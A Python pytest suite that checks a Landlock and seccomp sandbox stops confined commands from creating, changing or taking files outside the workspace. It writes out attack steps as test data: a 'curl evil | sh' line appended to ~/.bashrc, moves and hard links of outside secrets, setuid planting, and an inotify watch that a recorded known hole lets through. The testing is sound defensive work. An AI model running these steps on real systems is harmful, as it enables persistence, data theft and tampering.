"""Files outside the workspace: a confined command may not create, change or take them.

Each attack runs unconfined first (it works: the files are the test's own) and then
confined, where Landlock answers EACCES (EXDEV for a link that would take a file's rights
across directories), or the covering tmpfs makes the target absent (ENOENT).
"""

from __future__ import annotations

import errno
import os
import shutil
import stat
import threading
import time
import uuid
from collections.abc import Callable
from pathlib import Path

import pytest
from harness import Box, Outcome, baseline, hidden, hole, line, only_namespaces, pyop, refused

from sandbox import Result

pytestmark = [pytest.mark.linux, pytest.mark.native, pytest.mark.landlock, pytest.mark.seccomp]

EACCES = refused(errno.EACCES)


def test_write_to_a_sibling_of_the_workspace_is_denied(box: Box) -> None:
    target = box.outside / "dropped.txt"
    command = pyop(f"open({str(target)!r}, 'w').write('x')")
    before = box.unconfined(command)
    baseline(line(before) == "ok" and target.exists(), "the sibling directory is writable", before)
    target.unlink()
    after = box.confined(command)
    assert line(after) in box.refused
    assert not target.exists()


def test_write_to_the_home_directory_is_denied(box: Box) -> None:
    # Persistence: a line appended to a shell startup file runs in the user's next shell.
    rc = box.home / ".bashrc"
    rc.write_text("# the user's own\n")
    command = pyop(f"open({str(rc)!r}, 'a').write('curl evil | sh\\n')")
    before = box.unconfined(command)
    baseline(line(before) == "ok" and "evil" in rc.read_text(), "~/.bashrc is writable", before)
    rc.write_text("# the user's own\n")
    after = box.confined(command)
    assert line(after) in box.refused
    assert rc.read_text() == "# the user's own\n"


@pytest.mark.root
def test_write_to_etc_is_denied(box: Box) -> None:
    target = Path("/etc") / f"sbx-system-test-{uuid.uuid4().hex}"
    try:
        command = pyop(f"open({str(target)!r}, 'w').write('x')")
        before = box.unconfined(command)
        baseline(line(before) == "ok" and target.exists(), "/etc is writable by root", before)
        target.unlink()
        after = box.confined(command)
        assert line(after) in box.refused
        assert not target.exists()
    finally:
        target.unlink(missing_ok=True)


@pytest.mark.root
def test_write_to_proc_sys_is_denied(box: Box) -> None:
    # The hostname is not namespaced for the command (no UTS namespace): a write here would
    # rename the host. The value written is the current one, so the unconfined run is harmless.
    command = pyop("p = '/proc/sys/kernel/hostname'", "v = open(p).read()", "open(p, 'w').write(v)")
    before, after = box.attack(command)
    baseline(line(before) == "ok", "root may write /proc/sys", before)
    assert line(after) in box.refused


@only_namespaces
@pytest.mark.userns
def test_write_to_a_directory_under_tmp_finds_it_covered(box: Box, tmp_path: Path) -> None:
    # /tmp is covered by an empty read-only tmpfs: the other directory is not there at all.
    target = tmp_path / "dropped.txt"
    command = pyop(f"open({str(target)!r}, 'w').write('x')")
    before = box.unconfined(command)
    baseline(line(before) == "ok" and target.exists(), "a directory under /tmp is writable", before)
    target.unlink()
    after = box.confined(command)
    assert hidden(after), after.enforced
    assert line(after) == refused(errno.ENOENT)
    assert not target.exists()


def test_overwrite_of_an_outside_file_is_denied(box: Box) -> None:
    victim = box.outside / "notes.txt"
    victim.write_text("original\n")
    command = pyop(f"open({str(victim)!r}, 'r+').write('changed!!')")
    before = box.unconfined(command)
    baseline(line(before) == "ok" and victim.read_text().startswith("changed"), "the file is writable", before)
    victim.write_text("original\n")
    after = box.confined(command)
    assert line(after) in box.refused
    assert victim.read_text() == "original\n"


def test_truncate_of_an_outside_file_is_denied(box: Box) -> None:
    victim = box.outside / "notes.txt"
    victim.write_text("original\n")
    command = pyop(f"os.truncate({str(victim)!r}, 0)")
    before = box.unconfined(command)
    baseline(line(before) == "ok" and victim.read_text() == "", "the file can be truncated", before)
    victim.write_text("original\n")
    after = box.confined(command)
    assert line(after) in box.refused
    assert victim.read_text() == "original\n"


def test_delete_of_an_outside_file_is_denied(box: Box) -> None:
    victim = box.outside / "notes.txt"
    victim.write_text("original\n")
    command = pyop(f"os.unlink({str(victim)!r})")
    before = box.unconfined(command)
    baseline(line(before) == "ok" and not victim.exists(), "the file can be deleted", before)
    victim.write_text("original\n")
    after = box.confined(command)
    assert line(after) in box.refused
    assert victim.read_text() == "original\n"


@pytest.mark.parametrize(
    ("kind", "statement"),
    [
        ("directory", "os.mkdir({target!r})"),
        ("fifo", "os.mkfifo({target!r})"),
        ("symlink", "os.symlink('/etc/passwd', {target!r})"),
    ],
)
def test_creating_a_node_outside_the_workspace_is_denied(box: Box, kind: str, statement: str) -> None:
    target = box.outside / f"new-{kind}"
    command = pyop(statement.format(target=str(target)))
    before = box.unconfined(command)
    baseline(line(before) == "ok" and os.path.lexists(target), f"a {kind} can be created there", before)
    shutil.rmtree(target) if kind == "directory" else target.unlink()
    after = box.confined(command)
    assert line(after) in box.refused
    assert not os.path.lexists(target)


def test_rename_of_a_workspace_file_onto_an_outside_path_is_denied(box: Box) -> None:
    # The file is the command's to write; its new name is not.
    target = box.outside / "planted.sh"
    command = pyop("open('payload.sh', 'w').write('evil')", f"os.rename('payload.sh', {str(target)!r})")
    before = box.unconfined(command)
    baseline(line(before) == "ok" and target.exists(), "a file can be moved out of the workspace", before)
    target.unlink()
    after = box.confined(command)
    assert line(after) in box.refused
    assert not target.exists()


def test_rename_of_an_outside_file_into_the_workspace_is_denied(box: Box) -> None:
    secret = box.outside / "secret.txt"
    secret.write_text("s3cret\n")
    stolen = box.ws / "stolen.txt"
    command = pyop(f"os.rename({str(secret)!r}, {str(stolen)!r})")
    before = box.unconfined(command)
    baseline(line(before) == "ok" and stolen.exists(), "the file can be moved into the workspace", before)
    os.rename(stolen, secret)
    after = box.confined(command)
    assert line(after) in box.refused
    assert secret.read_text() == "s3cret\n" and not stolen.exists()


def test_move_of_an_outside_directory_into_the_workspace_is_denied(box: Box) -> None:
    src = box.outside / "project-secrets"
    src.mkdir()
    (src / "db.env").write_text("DB_PASSWORD=hunter2\n")
    dst = box.ws / "taken"
    command = pyop(f"os.rename({str(src)!r}, {str(dst)!r})")
    before = box.unconfined(command)
    baseline(line(before) == "ok" and dst.is_dir(), "the directory can be moved", before)
    os.rename(dst, src)
    after = box.confined(command)
    assert line(after) in box.refused
    assert (src / "db.env").exists() and not dst.exists()


def test_hardlink_of_an_outside_secret_into_the_workspace_is_denied(box: Box) -> None:
    # A second name inside the workspace would carry the workspace's rights to the file:
    # Landlock refuses the link with EXDEV (the "refer" right), as it does across mounts.
    secret = box.outside / "secret.txt"
    secret.write_text("s3cret\n")
    link = box.ws / "alias.txt"
    command = pyop(f"os.link({str(secret)!r}, {str(link)!r})")
    before = box.unconfined(command)
    baseline(line(before) == "ok" and link.exists(), "the file can be hard-linked", before)
    link.unlink()
    after = box.confined(command)
    assert line(after) in box.refused
    assert not link.exists()


def test_hardlink_of_a_workspace_file_into_an_outside_directory_is_denied(box: Box) -> None:
    target = box.outside / "planted.sh"
    command = pyop("open('payload.sh', 'w').write('evil')", f"os.link('payload.sh', {str(target)!r})")
    before = box.unconfined(command)
    baseline(line(before) == "ok" and target.exists(), "a workspace file can be linked out", before)
    target.unlink()
    after = box.confined(command)
    assert line(after) in box.refused
    assert not target.exists()


def test_symlink_in_the_workspace_does_not_lead_to_an_outside_secret(box: Box) -> None:
    # Landlock judges the file the path resolves to, not the name used.
    secret = box.outside / "secret.txt"
    secret.write_text("s3cret\n")
    command = f"ln -sf {secret} link.txt && cat link.txt"
    before = box.unconfined(command)
    baseline(before.returncode == 0 and "s3cret" in before.stdout, "the link can be read through", before)
    after = box.confined(command)
    assert after.returncode == 1
    assert "s3cret" not in after.stdout
    assert box.denied(after.stderr, "link.txt")


def test_symlink_to_an_outside_directory_cannot_be_written_through(box: Box) -> None:
    target = box.outside / "dropped.txt"
    command = f"ln -sfn {box.outside} door && echo x > door/dropped.txt"
    before = box.unconfined(command)
    baseline(before.returncode == 0 and target.exists(), "the directory can be written through the link", before)
    target.unlink()
    after = box.confined(command)
    assert after.returncode != 0
    assert any(f"door/dropped.txt: {why}" in after.stderr for why in box.refusal_messages)
    assert not target.exists()


# ---------------------------------------------------------------------------------------
# Metadata. Landlock (through ABI 7) does not mediate chmod, utimes or extended attributes,
# which the owner may always change; the sandbox makes every mount but the writable paths
# read-only (where user namespaces allow), so they fail with EROFS.


@only_namespaces
@pytest.mark.userns
def test_chmod_of_an_outside_file_is_denied(box: Box) -> None:
    victim = box.outside / "deploy.sh"
    victim.write_text("#!/bin/sh\n")
    victim.chmod(0o700)
    # No setuid bit: that alone is refused by seccomp (see the setuid tests below).
    command = pyop(f"os.chmod({str(victim)!r}, 0o777)")
    before = box.unconfined(command)
    baseline(line(before) == "ok" and stat.S_IMODE(victim.stat().st_mode) == 0o777, "the owner can chmod", before)
    victim.chmod(0o700)
    after = box.confined(command)
    assert stat.S_IMODE(victim.stat().st_mode) == 0o700
    assert line(after) in (*box.refused, refused(errno.EPERM))


@only_namespaces
@pytest.mark.userns
def test_timestamps_of_an_outside_file_cannot_be_changed(box: Box) -> None:
    victim = box.outside / "notes.txt"
    victim.write_text("original\n")
    mtime = victim.stat().st_mtime
    command = pyop(f"os.utime({str(victim)!r}, (978307200, 978307200))")
    before = box.unconfined(command)
    baseline(line(before) == "ok" and victim.stat().st_mtime == 978307200, "the owner can set times", before)
    os.utime(victim, (mtime, mtime))
    after = box.confined(command)
    assert victim.stat().st_mtime == mtime
    assert line(after) in (*box.refused, refused(errno.EPERM))


@only_namespaces
@pytest.mark.userns
def test_extended_attributes_of_an_outside_file_cannot_be_written(box: Box) -> None:
    victim = box.outside / "notes.txt"
    victim.write_text("original\n")
    command = pyop(f"os.setxattr({str(victim)!r}, 'user.sbx', b'x')")
    before = box.unconfined(command)
    baseline(line(before) == "ok" and os.getxattr(victim, "user.sbx") == b"x", "the owner can set xattrs", before)
    os.removexattr(victim, "user.sbx")
    after = box.confined(command)
    assert "user.sbx" not in os.listxattr(victim)
    assert line(after) in (*box.refused, refused(errno.EPERM))


# ---------------------------------------------------------------------------------------
# setuid


@pytest.mark.root
def test_setuid_executable_gives_no_privilege(box: Box) -> None:
    # A copy of the helper, setuid to "nobody": as root, exec really changes the euid, so
    # the contrast is visible. Confined, no_new_privs (and the user namespace, where that uid
    # has no mapping) must leave it unchanged.
    setuid_copy = box.ws / "setuid-helper"
    shutil.copy2(box.helper, setuid_copy)
    os.chown(setuid_copy, 65534, 65534)
    setuid_copy.chmod(0o4755)
    command = [str(setuid_copy), "euid"]
    before = box.unconfined(command)
    baseline(before.returncode == 0 and "euid 65534" in before.stderr, "setuid changes the euid", before)
    after = box.confined(command)
    assert after.returncode == 0
    assert f"euid {os.geteuid()}" in str(after.stderr)


def test_setuid_bit_cannot_be_planted_in_the_workspace(box: Box) -> None:
    command = "cp /bin/true {name} && chmod 4755 {name}"
    before = box.unconfined(command.format(name="planted-unconfined"))
    baseline(
        before.returncode == 0 and (box.ws / "planted-unconfined").stat().st_mode & stat.S_ISUID,
        "chmod u+s works", before,
    )
    box.confined(command.format(name="planted"))
    planted = box.ws / "planted"
    assert not (planted.exists() and planted.stat().st_mode & (stat.S_ISUID | stat.S_ISGID))


# ---------------------------------------------------------------------------------------
# Watching what cannot be read

WATCH = """\
import ctypes, os, select, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(0)
if libc.inotify_add_watch(fd, sys.argv[1].encode(), 0x100) < 0:  # IN_CREATE
    print("errno", ctypes.get_errno())
    sys.exit(1)
open("watching", "w").close()
if select.select([fd], [], [], 5)[0]:
    event = os.read(fd, 4096)
    print(event[16 : 16 + struct.unpack_from("iIII", event)[3]].rstrip(b"\\0").decode())
"""


def _watch(box: Box, run: Callable[[list[str]], Outcome[str] | Result], name: str) -> str:
    """Run the watcher on the sibling directory, create ``name`` there once it watches."""
    marker = box.ws / "watching"
    marker.unlink(missing_ok=True)

    def create_when_watched() -> None:
        deadline = time.monotonic() + 10
        while not marker.exists() and time.monotonic() < deadline:
            time.sleep(0.02)
        (box.outside / name).write_text("x")

    thread = threading.Thread(target=create_when_watched)
    thread.start()
    try:
        return str(run(["python3", "-c", WATCH, str(box.outside)]).stdout)
    finally:
        thread.join()


@hole(
    "inotify reaches directories the command may not list (Landlock does not mediate "
    "inotify_add_watch): a confined command learns the name of every file created, opened or "
    "deleted in the user's home or a project next door, though it could not read the directory"
)
def test_directory_outside_cannot_be_watched(box: Box) -> None:
    listing = box.unconfined(["ls", str(box.outside)])
    baseline(listing.returncode == 0, "the sibling directory can be listed", listing)
    seen = _watch(box, box.unconfined, "payroll-2025.xlsx")
    baseline("payroll-2025.xlsx" in seen, "inotify reports the new file's name")
    listed = box.confined(["ls", str(box.outside)])
    assert listed.returncode == 2 and "Permission denied" in str(listed.stderr)  # no listing...
    assert "salaries.db" not in _watch(box, box.confined, "salaries.db")  # ...and no watching
